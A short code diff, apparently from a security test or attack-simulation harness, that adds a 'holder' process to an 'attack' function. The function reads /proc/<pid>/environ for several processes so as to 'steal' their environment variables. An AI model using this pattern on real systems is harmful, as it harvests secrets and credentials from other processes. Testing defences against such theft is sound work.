@@ -10,5 +10,5 @@ BARE = True
 
 
 def attack(bait):
-    for pid in ("self", os.getppid(), 1, bait["pid"]):
+    for pid in ("self", os.getppid(), 1, bait["pid"], bait["holder"]):
         steal(f"/proc/{pid}/environ", lambda pid=pid: read(f"/proc/{pid}/environ"))
